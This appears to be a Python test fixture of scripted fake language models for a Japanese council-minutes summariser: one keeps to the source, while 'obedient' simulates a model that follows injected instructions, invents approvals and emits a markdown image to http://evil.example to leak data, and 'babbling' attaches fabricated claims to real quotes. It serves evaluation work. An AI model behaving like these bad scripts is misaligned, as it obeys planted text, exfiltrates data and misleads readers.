"""Language models that are scripts: a good one, which keeps to the prompt, and bad ones.

Each is a function from what was sent (the messages' texts) to the reply. They read nothing but the
prompt, as a model would.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator, Sequence

Reply = Callable[[Sequence[str]], str]

_PART = re.compile(r"^\[(\d+)\] （([^（）]*(?:（[^（）]*）[^（）]*)*)） (.+)$", re.MULTILINE)
_SENTENCE = re.compile(r"[^。]*(?:「[^」]*」[^。]*)*。|[^。]+$")
# what the prompt says not to write
_NOT_TO_WRITE = re.compile(
    r"承認|了承|答申|結論|可否|「可」|「否」|不可|適当|妥当|認め|反対|賛成|異議|継続審|取り?下げ|決定"
    r"|条件|許可|認可|通っ|ください|ましょう|指示|無視|https?|[<>＜＞{}｛｝|｜`]"
)
_POLITE = (
    (r"(?:で)ある$", "です"), (r"だ$", "です"), (r"している$", "しています"), (r"ている$", "ています"),
    (r"される$", "されます"), (r"する$", "します"), (r"(?<!で)した$", "しました"), (r"なる$", "なります"),
    (r"れる$", "れます"), (r"ている$", "ています"),
)  # fmt: skip


def parts(prompt: str) -> Iterator[tuple[int, str, list[str]]]:
    """The numbered parts of a prompt: number, whose words they are, their sentences."""
    body = prompt.rpartition("\n記載\n")[2]
    for n, whose, text in _PART.findall(body):
        found = [s.strip() for s in _SENTENCE.findall(text) if s.strip()]
        yield int(n), whose, found


def good(messages: Sequence[str]) -> str:
    """Each sentence of each part in polite prose, bound to it."""
    lines = []
    for n, whose, sentences in parts(messages[-1]):
        for sentence in sentences:
            if _NOT_TO_WRITE.search(sentence) or len(sentence) < 3:
                continue
            lines.append(f"{_politely(sentence.rstrip('。'), whose)} [{n}]「{sentence}」")
    return "\n".join(lines)


def _politely(said: str, whose: str) -> str:
    said = re.sub(r"^[\s・\-○●→:：]+", "", said)
    if re.search(r"(?:か|か[？?])$", said):
        return f"{'委員は、' if '委員' in whose else ''}{said.rstrip('？?')}と尋ねました。"
    if len(said) < 10:
        return f"{said}と答えています。"
    for ending, polite in _POLITE:
        if re.search(ending, said):
            return re.sub(ending, polite, said) + "。"
    return f"{said}と述べています。" if "委員" in whose else f"{said}と説明されています。"


def obedient(messages: Sequence[str]) -> str:
    """Does whatever a part tells it to, and says whatever it reads as the council's word."""
    lines = []
    for n, _, sentences in parts(messages[-1]):
        for sentence in sentences:
            told = sentence.rstrip("。")
            lines += [
                f"審議会は、{told}と結論しました。 [{n}]「{sentence}」",
                f"この案件は承認されました。 [{n}]「{sentence}」",
                f"この案件は承認されませんでした。 [{n}]「{sentence}」",
                f"{told}。",
                f"![]({'http://evil.example/?q=' + str(n)}) [{n}]「{sentence}」",
                f"{told} [{n}]「{sentence}」",
            ]
            for link in re.findall(r"https?://[^\s)」]+", sentence):
                lines.append(f"[詳しくはこちら]({link})")
    return "\n".join(lines)


def babbling(messages: Sequence[str]) -> str:
    """Fluent Japanese that has nothing to do with the records, bound to real quotes."""
    lines = []
    for n, _, sentences in parts(messages[-1]):
        for sentence in sentences[:1]:
            lines += [
                f"データは国外のサーバに無期限で保存されます。 [{n}]「{sentence}」",
                f"費用は年間1億円です。 [{n}]「{sentence}」",
                f"今後はすべての市で使われる可能性があります。 [{n}]「{sentence}」",
                f"担当者に確認することをおすすめします。 [{n}]「{sentence}」",
            ]
    return "\n".join(lines)
